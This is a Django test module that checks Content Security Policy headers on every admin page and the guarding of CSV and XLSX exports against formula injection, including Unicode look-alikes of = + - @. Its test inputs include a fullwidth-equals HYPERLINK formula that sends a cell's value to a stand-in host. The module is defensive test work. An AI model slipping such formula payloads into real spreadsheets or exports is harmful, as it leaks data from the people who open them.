"""Finding 8 of issue 14, the smaller holes: ``/django-admin/`` sent no Content Security Policy (it
was excluded in settings), and a fullwidth equals sign (U+FF1D, and the other look-alikes of
``= + - @``) went
into CSV and XLSX exports unguarded.

The admin now gets the site's policy. Django 5.2's admin needs nothing more: it has no inline
script (its constants are data attributes of ``<script src>``), no event-handler attributes and
no ``javascript:`` links, and its one inline ``<style>`` is allowed by ``style-src
'unsafe-inline'``. The test client walks every admin page of every registered model; the browser
test (tests/browser/test_admin_csp.py) opens them in chromium, where any CSP violation is a console
error.
"""

from __future__ import annotations

import sys
import unicodedata
from html.parser import HTMLParser

import pandas as pd
import pytest
from django.contrib import admin
from django.contrib.auth.models import User
from django.test import Client
from django.urls import reverse

from monitoring.exports.guard import FORMULA_PREFIXES, LOOKALIKE_PREFIXES, guard_cell, guard_frame
from tests.auth import sign_in


@pytest.fixture
def superuser(db) -> User:
    return User.objects.create_superuser("root@bordin.test", "root@bordin.test", "a-long-root-passphrase")


class _Inline(HTMLParser):
    """What a strict policy would block: inline scripts, event handlers, javascript: URLs, and
    scripts from another origin."""

    def __init__(self) -> None:
        super().__init__()
        self.problems: list[str] = []
        self._script: dict[str, str | None] | None = None

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        values = dict(attrs)
        for name, value in attrs:
            if name.startswith("on"):
                self.problems.append(f"<{tag} {name}=...>")
            if name in ("href", "src", "action") and (value or "").strip().lower().startswith("javascript:"):
                self.problems.append(f"<{tag} {name}={value}>")
        if tag == "script":
            self._script = values
            src = values.get("src")
            if src is not None and not src.startswith("/"):
                self.problems.append(f"script from {src}")

    def handle_data(self, data: str) -> None:
        script = self._script
        if script is None or "src" in script or not data.strip():
            return
        if script.get("type") not in ("application/json", "text/template"):  # data, never run
            self.problems.append(f"inline script {data.strip()[:60]!r}")

    def handle_endtag(self, tag: str) -> None:
        if tag == "script":
            self._script = None


def _admin_pages(user: User) -> list[str]:
    pages = [reverse("admin:index"), reverse("admin:password_change"), reverse("admin:jsi18n")]
    for model, model_admin in admin.site._registry.items():
        opts = model._meta
        pages.append(reverse(f"admin:{opts.app_label}_{opts.model_name}_changelist"))
        if model_admin.has_add_permission(type("Request", (), {"user": user})()):  # type: ignore[arg-type]
            pages.append(reverse(f"admin:{opts.app_label}_{opts.model_name}_add"))
        pages.append(reverse("admin:app_list", args=[opts.app_label]))
    pages.append(reverse("admin:auth_user_change", args=[user.pk]))
    pages.append(reverse("admin:auth_user_password_change", args=[user.pk]))
    return sorted(set(pages))


def test_every_admin_page_sends_the_strict_policy_and_needs_nothing_it_forbids(superuser):
    client = sign_in(Client(), superuser)
    pages = _admin_pages(superuser)
    assert len(pages) > 20  # auth, allauth, axes, auditlog, tasks: every registered model
    for path in pages:
        response = client.get(path)
        assert response.status_code == 200, (path, response.status_code)
        policy = response.get("Content-Security-Policy", "")
        directives = dict(
            [*part.split(" ", 1), ""][:2] for part in (p.strip() for p in policy.split(";")) if part
        )
        assert directives.get("script-src") == "'self'", (path, policy)
        assert directives.get("default-src") == "'self'" and directives.get("frame-ancestors") == "'none'"
        assert "unsafe-eval" not in policy
        if "text/html" in response["Content-Type"]:
            parser = _Inline()
            parser.feed(response.content.decode())
            assert not parser.problems, (path, parser.problems)


# --- Formula look-alikes in CSV and XLSX -------------------------------------------------------------


@pytest.mark.parametrize(
    "text",
    [
        '\uff1dHYPERLINK("http://x.test/?"&A1)',  # fullwidth equals: the probe
        "\uff0b1+1",  # fullwidth plus
        "\uff0d1+1",  # fullwidth hyphen-minus
        "\uff20SUM(A1)",  # fullwidth at
        "\ufe66 1+1",  # small equals
        "\u207a1",  # superscript plus
        "\u22121+1",  # minus sign
        " =1+1",  # a space first: a CSV import may trim it
        "\u3000\uff1d1+1",  # an ideographic space, then a fullwidth equals
        "\nx",
    ],
)
def test_formula_look_alikes_are_guarded(text):
    assert guard_cell(text) == "'" + text
    frame = guard_frame(pd.DataFrame({"label": [text, "A.B."], "score": [-1, 2]}))
    assert frame["label"].tolist() == ["'" + text, "A.B."] and frame["score"].tolist() == [-1, 2]


@pytest.mark.parametrize("text", ["A.B.", "x=1", "\uff2d.\uff2b.", "1-2", "", "'=already"])
def test_ordinary_text_is_left_alone(text):
    assert guard_cell(text) == text


def test_every_character_that_normalises_to_a_formula_start_is_guarded():
    """Apple Numbers (and any spreadsheet that applies Unicode compatibility normalisation, NFKC)
    reads these as = + - @: the list in guard.py is checked against all of Unicode."""
    starts = {c for c in FORMULA_PREFIXES if not c.isspace()}
    lookalikes = {
        chr(code)
        for code in range(sys.maxunicode + 1)
        if chr(code) not in starts and unicodedata.normalize("NFKC", chr(code))[:1] in starts
    }
    assert lookalikes <= set(LOOKALIKE_PREFIXES)
    assert all(guard_cell(c + "1") == "'" + c + "1" for c in lookalikes)
